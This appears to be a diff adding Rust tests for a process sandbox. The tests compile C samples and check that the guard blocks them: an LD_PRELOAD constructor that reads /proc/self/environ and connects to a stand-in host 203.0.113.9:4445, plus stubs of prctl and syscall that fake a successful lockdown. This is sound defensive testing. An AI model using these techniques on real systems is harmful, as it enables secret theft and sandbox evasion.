@@ -1,0 +1,199 @@
+//! What ran first, what was handed down, who is there already.
+
+use crate::attack::{
+    FORBIDDEN, GUARDED, Guard, NET, VICTIM, c_program, compile, fresh, scratch, text, victim,
+};
+use fnguard_attacks::program::{Policy, Program};
+use fnguard_attacks::sink::Tcp;
+
+fnguard_attacks::tests! { "arming":
+    constructor_runs_after, interposed_calls_are_seen, helper_before_arming, handed_down_listener,
+    armed_twice, static_program, musl_program, bad_input,
+}
+
+const SECRET: &str = "s3cr3t-Value-of-the-function-7f1c";
+
+/// A library of the function's, whose constructor runs before its main: the launcher has armed by
+/// then.
+fn constructor_runs_after() {
+    let (sink, folder) = (Tcp::at("203.0.113.9:4445"), fresh("open"));
+    std::fs::create_dir(&folder).expect("a directory");
+    let file = folder.join("trace");
+    let source = format!(
+        "#define _GNU_SOURCE\n#include <arpa/inet.h>\n#include <fcntl.h>\n#include <sys/socket.h>\n#include <unistd.h>\n\
+         static char b[65536];\n\
+         __attribute__((constructor)) static void run(void) {{\n\
+         struct sockaddr_in a = {{.sin_family = AF_INET, .sin_port = htons(4445)}};\n\
+         inet_aton(\"203.0.113.9\", &a.sin_addr);\n\
+         int e = open(\"/proc/self/environ\", O_RDONLY);\n\
+         int n = read(e, b, sizeof b); close(e);\n\
+         int f = open(\"{}\", O_CREAT | O_WRONLY, 0600); write(f, b, n); close(f);\n\
+         int s = socket(AF_INET, SOCK_STREAM, 0); connect(s, (void *)&a, sizeof a); close(s); }}\n",
+        text(&file)
+    );
+    let library = c_program(&source, &["-shared", "-fPIC", "-Wno-unused-result"]);
+    // The launcher is started without it, the function with it: as a library that it links.
+    let attack = victim(["nothing"])
+        .under(["env", &format!("LD_PRELOAD={}", text(&library))])
+        .variable("TOKEN", SECRET);
+    attack.plain();
+    assert_eq!(sink.connections(), 1);
+    let stolen = std::fs::read(&file).expect("the trace");
+    assert!(String::from_utf8_lossy(&stolen).contains(SECRET));
+    std::fs::remove_file(&file).expect("it is there");
+    let policy = format!(
+        "{NET}[secrets]\nenv = [\"TOKEN\"]\n[exec]\nallow = [\"{VICTIM}\"]\n[memory]\nexecutable = \"files\"\n\
+         [files]\nwrite = [\"{}\"]\n",
+        text(file.parent().expect("a directory"))
+    );
+    let guarded = attack.guard(&policy).run();
+    guarded.finished();
+    assert_eq!(sink.connections(), 0);
+    let stolen = std::fs::read(&file).expect("the constructor ran");
+    assert!(!String::from_utf8_lossy(&stolen).contains(SECRET));
+    guarded.one_record("network", "connect", "203.0.113.9:4445");
+}
+
+/// prctl, syscall and their kin of an attacker's own, in the process that arms: they say that all
+/// went well. What is in force was put there by other means, and read back by other means.
+fn interposed_calls_are_seen() {
+    let source = "#include <stddef.h>\n\
+        int prctl(int o, ...) { (void)o; return 0; }\n\
+        long syscall(long n, ...) { (void)n; return 0; }\n\
+        int setrlimit(int r, const void *l) { (void)r; (void)l; return 0; }\n\
+        int fork(void) { return -1; }\n\
+        int dup2(int a, int b) { (void)a; return b; }\n\
+        int capset(void *h, void *d) { (void)h; (void)d; return 0; }\n";
+    let library = c_program(source, &["-shared", "-fPIC", "-fno-builtin"]);
+    let sink = Tcp::on(FORBIDDEN);
+    let attack = victim(["connect", &sink.address.to_string()]).under(["env", "-u", "LD_PRELOAD"]);
+    let policy = format!("{NET}[exec]\nallow = [\"{VICTIM}\"]\n");
+    let guarded = attack.guard(&policy).variable("LD_PRELOAD", text(&library)).run();
+    guarded.finished();
+    assert_eq!(sink.connections(), 0, "{}", guarded.text());
+    guarded.one_record("network", "connect", &sink.address.to_string());
+    let posture = guarded.posture();
+    assert!(posture["interposed"].to_string().contains("syscall"), "{posture}");
+    let strict = format!("{policy}[arm]\nstrict_init = true\n");
+    let refused = attack.guard(&strict).variable("LD_PRELOAD", text(&library)).run();
+    assert_eq!(refused.status, Some(125), "{}", refused.text());
+    assert_eq!(refused.records("refusal")[0]["code"], "foreign_code");
+}
+
+/// A process forked before arming, with memory that both can write.
+fn helper_before_arming() {
+    let source = "#define _GNU_SOURCE\n#include <sys/mman.h>\n#include <sys/prctl.h>\n#include <signal.h>\n#include <unistd.h>\n\
+        __attribute__((constructor)) static void run(void) {\n\
+        volatile int *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);\n\
+        if (fork() == 0) { prctl(PR_SET_PDEATHSIG, SIGKILL); for (;;) { *page = 42; pause(); } } }\n";
+    let library = c_program(source, &["-shared", "-fPIC"]);
+    let run = |strict: &str| {
+        Program::new([VICTIM, "nothing"])
+            .guard(&format!("{NET}[arm]\n{strict}"))
+            .variable("LD_PRELOAD", text(&library))
+            .in_pid_namespace()
+            .run()
+    };
+    let refused = run("strict_init = true\n");
+    assert_eq!(refused.status, Some(125), "{}", refused.text());
+    let message = refused.records("refusal").remove(0).to_string();
+    assert!(message.contains("child processes") && message.contains("shared writable map"), "{message}");
+    let named = run("strict_init = false\n");
+    let warnings = named.posture()["warnings"].to_string();
+    assert!(warnings.contains("child processes") && warnings.contains("shared writable map"), "{warnings}");
+}
+
+/// A listener that was there before: both would be asked, and the kernel allows one.
+fn handed_down_listener() {
+    let attack = victim(["nothing"]);
+    let there = [env!("CARGO_BIN_EXE_impose"), "1000=listen", "--"];
+    let refused = attack.guard(NET).under(there).run();
+    assert_eq!(refused.status, Some(125), "{}", refused.text());
+    assert_eq!(refused.records("refusal")[0]["code"], "other_listener", "{}", refused.text());
+    let degraded = attack.guard(&format!("{NET}[arm]\non_unsupported = \"degrade\"\n")).under(there).run();
+    degraded.finished();
+    let posture = degraded.posture();
+    assert_eq!(
+        (&posture["mechanism"], &posture["controls"]["network"]),
+        (&"none".into(), &"not_held".into()),
+        "{posture}"
+    );
+    assert!(posture["not_held"].to_string().contains("listener"), "{posture}");
+}
+
+fn armed_twice() {
+    let inner = Policy::new(scratch(), NET);
+    let attack = victim(["nothing"]).guarded(GUARDED, &inner);
+    let outcome = attack.guard(&format!("{NET}[exec]\nallow = [\"{VICTIM}\"]\n")).run();
+    assert_eq!(outcome.status, Some(125), "{}", outcome.text());
+    assert!(outcome.shows(b"armed_already"), "{}", outcome.text());
+}
+
+const C_VICTIM: &str = "#include <arpa/inet.h>\n#include <errno.h>\n#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n\
+    #include <sys/socket.h>\n#include <unistd.h>\n\
+    int main(int argc, char **argv) {\n\
+    if (argc > 1 && !strcmp(argv[1], \"abort\")) abort();\n\
+    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};\n\
+    inet_aton(\"203.0.113.9\", &a.sin_addr);\n\
+    int s = socket(AF_INET, SOCK_STREAM, 0);\n\
+    printf(\"= connect %d\\n\", connect(s, (void *)&a, sizeof a) ? -errno : 0);\n\
+    printf(\"= token %d\\n\", getenv(\"TOKEN\") ? 1 : 0);\n\
+    fflush(stdout); return 42; }\n";
+
+/// Programs of other kinds than this one: held alike, and their abort ends them alone.
+fn c_victim(program: &std::path::Path) {
+    let sink = Tcp::on(FORBIDDEN);
+    let port = sink.address.port().to_string();
+    let attack = Program::new([text(program), &port]).variable("TOKEN", SECRET);
+    let plain = attack.plain();
+    assert_eq!((plain.said("token"), sink.connections()), (1, 1));
+    let guarded = attack.under_guard(&format!("{NET}[secrets]\nenv = [\"TOKEN\"]\n"));
+    assert_eq!((guarded.said("token"), sink.connections()), (0, 0), "{}", guarded.text());
+    guarded.only_record("network", "connect", &sink.address.to_string());
+    let aborted = Program::new([text(program), "abort"]).guard(NET).run();
+    assert_eq!(aborted.signal, Some(libc::SIGABRT), "{}", aborted.text());
+    assert_eq!(aborted.records("ended")[0]["signal"], "SIGABRT", "the arbiter lived to say so");
+}
+
+fn static_program() {
+    c_victim(&c_program(C_VICTIM, &["-static"]));
+    c_victim(&c_program(C_VICTIM, &["-static-pie", "-fPIE"]));
+}
+
+/// musl's abort and raise signal a thread id that it remembers: after an exec it is its own. (The
+/// fork in place, where it would be the arbiter's, is the attribute's to test.)
+fn musl_program() {
+    c_victim(&compile("musl-gcc", C_VICTIM, &["-static"]));
+    c_victim(&compile("musl-gcc", C_VICTIM, &[]));
+}
+
+/// Each a clear message, status 125, and nothing started.
+fn bad_input() {
+    for (policy, shown) in [
+        ("[network\n", "guard.toml:2"),
+        ("[networks]\nallow = []\n", "network"),
+        ("[network]\nallow = [\"*\"]\n", "allow_any"),
+        ("[exec]\nallow = [\"/bin/sh\"]\nallow = []\n", "allow"),
+    ] {
+        let outcome = victim(["nothing"]).guard(policy).run();
+        assert_eq!(outcome.status, Some(125), "{policy}\n{}", outcome.text());
+        assert!(outcome.shows(shown.as_bytes()), "{policy}: {shown}\n{}", outcome.text());
+    }
+    let outcome = Program::new([GUARDED, "/nonexistent/guard.toml", VICTIM, "nothing"]).run();
+    assert_eq!(outcome.status, Some(125), "{}", outcome.text());
+    let weak = "[secrets]\nenv = [\"TOKEN\"]\n";
+    for value in ["", "abc"] {
+        let started = victim(["nothing"]).variable("TOKEN", value).under_guard(weak);
+        assert!(started.posture()["weak"].to_string().contains("TOKEN"), "{}", started.text());
+        let refused = victim(["nothing"])
+            .variable("TOKEN", value)
+            .guard(&format!("{weak}on_weak = \"refuse\"\n"))
+            .run();
+        assert_eq!(refused.status, Some(125), "{}", refused.text());
+        assert!(refused.records("refusal")[0].to_string().contains("TOKEN"));
+    }
+    let missing = Program::new([GUARDED, "", "/nonexistent/program"]);
+    let _ = missing;
+    let outcome = Program::new(["/nonexistent/program"]).guard(NET).run();
+    assert_eq!(outcome.status, Some(127), "{}", outcome.text());
+}
